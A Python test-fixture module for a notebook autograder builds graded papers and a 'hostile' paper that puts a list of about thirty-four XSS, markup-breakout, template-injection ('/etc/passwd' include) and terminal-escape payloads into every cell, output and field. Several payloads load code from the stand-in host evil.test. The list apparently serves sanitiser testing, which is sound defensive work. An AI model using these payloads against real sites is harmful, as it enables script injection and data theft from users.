"""Small papers to make notebooks and pages from, and what a hostile student puts into them."""

from typing import Any

from autograder.papers.model import Cell, Exercise, Kind, Output, Paper, Role

HIDDEN_LINE = "assert double(12345.5) == 24691.0, 'the secret case'"
TEST = f"assert double(2) == 4\n### BEGIN HIDDEN TESTS\n{HIDDEN_LINE}\n### END HIDDEN TESTS"
PNG = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">'
    '<rect width="9" height="9"/></svg>'
)

# Each would call pwned() or ask for http://evil.test/ wherever it is taken for markup.
ATTACKS = [
    "<script>pwned()</script>",
    "<script src='http://evil.test/x.js'></script>",
    "<img src=x onerror=pwned()>",
    "<img src='http://evil.test/x.png'>",
    "<a href='javascript:pwned()'>x</a>",
    "<a href='java\tscript:pwned()'>x</a>",
    "<a href='data:text/html,<script>pwned()</script>'>x</a>",
    "<iframe src='http://evil.test/' srcdoc='<script>pwned()</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<base href='http://evil.test/'>",
    "<link rel=stylesheet href='http://evil.test/x.css'>",
    "<style>@import 'http://evil.test/x.css'; body{background:url(http://evil.test/)}</style>",
    "<p style='background:url(http://evil.test/)'>x</p>",
    "<svg onload=pwned()><script>pwned()</script></svg>",
    "<svg><style><img src=x onerror=pwned()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></table></math>",
    "<math href='javascript:pwned()'><maction actiontype='statusline#http://evil.test'>x</math>",
    "<form action='http://evil.test/'><input autofocus onfocus=pwned()><button>x</button></form>",
    "<object data='http://evil.test/'></object><embed src='http://evil.test/'>",
    "<video src='http://evil.test/x.mp4' poster='http://evil.test/x.png' autoplay></video>",
    "<details open ontoggle=pwned()>x</details>",
    "<body onload=pwned()>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "<template><script>pwned()</script></template>",
    "</pre></div></section><script>pwned()</script>",
    "</title></style><script>pwned()</script>",
    "--></style><!--><script>pwned()</script>",
    "{{ pwned() }}{% include '/etc/passwd' %}",
    "![x](http://evil.test/x.png) ![y](javascript:pwned())",
    "[x](javascript:pwned()) <javascript:pwned()>",
    "$\\text{<script>pwned()</script>}$ $$\\href{javascript:pwned()}{x}$$",
    "$<img src=x onerror=pwned()>$",
    "\x1b]8;;javascript:pwned()\x1b\\x\x1b[31m<script>pwned()</script>",
    "\ud800<script>pwned()</script>\x00",
]


def cell(kind: Kind, source: str, role: Role, *, outputs: Any = (), name: str = "double") -> Cell:
    """A cell with the metadata of its role."""
    tests = role == "test"
    graded = {
        "grade": tests,
        "grade_id": {"test": f"{name}-tests", "locked": "setup"}.get(role, name),
        "locked": role != "solution",
        "schema_version": 3,
        "solution": role == "solution",
        "task": False,
    } | ({"points": 2} if tests else {})
    free = role in ("free", "text")
    return Cell(
        kind,
        source,
        role,
        f"{name}-{role}",
        {} if free else {"nbgrader": graded},
        outputs,
        execution_count=1 if kind == "code" else None,
    )


def paper(*cells: Cell, points: float = 0, message: str = "", **more: Any) -> Paper:
    """A paper of one exercise, worth two points."""
    exercise = Exercise("double", points, 2, "graded", message, more.pop("comment", ""))
    given = {"student": "ada", "lab": "01_small", "status": "graded", "note": "", "total": points}
    return Paper(**(given | more), cells=cells, exercises=[exercise])


def stream(text: str, name: str = "stdout") -> Output:
    """Something printed."""
    return {"output_type": "stream", "name": name, "text": text}


def shown(**data: Any) -> Output:
    """Something displayed; `text_html` stands for the type text/html."""
    bundle = {mime.replace("_", "/", 1): value for mime, value in data.items()}
    return {"output_type": "display_data", "data": bundle, "metadata": {}}


def error(text: str, name: str = "ValueError") -> Output:
    """An exception with a traceback."""
    return {"output_type": "error", "ename": name, "evalue": text, "traceback": [text, "at line 1"]}


def hostile_paper() -> Paper:
    """Every attack in every place that a student can reach."""
    cells = []
    for attack in ATTACKS:
        outputs = [
            stream(attack),
            stream(attack, "stderr"),
            error(attack, attack),
            *({"output_type": "display_data", "data": {mime: attack}} for mime in _MIMES),
            {"output_type": "execute_result", "data": {"text/plain": attack, attack: attack}},
            {"output_type": attack, "data": {"text/html": attack}, "text": attack},
        ]
        cells += [
            cell("code", attack, "free", outputs=outputs, name=attack),
            cell("markdown", attack, "free"),
            cell("raw", attack, "free"),
            cell("markdown", attack, "text"),
        ]
    worst = "".join(ATTACKS)
    cells.append(cell("code", f'"""{worst}"""', "solution", outputs=[error(worst)]))
    cells.append(cell("code", TEST, "test", outputs=[stream(worst), error(worst)]))
    fields: dict[str, Any] = {
        key: worst for key in ("student", "lab", "status", "note", "comment", "message")
    }
    return paper(*cells, **fields)


_MIMES = [
    *("text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml", "image/png"),
    *("image/jpeg", "application/javascript", "application/json", "application/pdf"),
    "application/vnd.jupyter.widget-view+json",
]
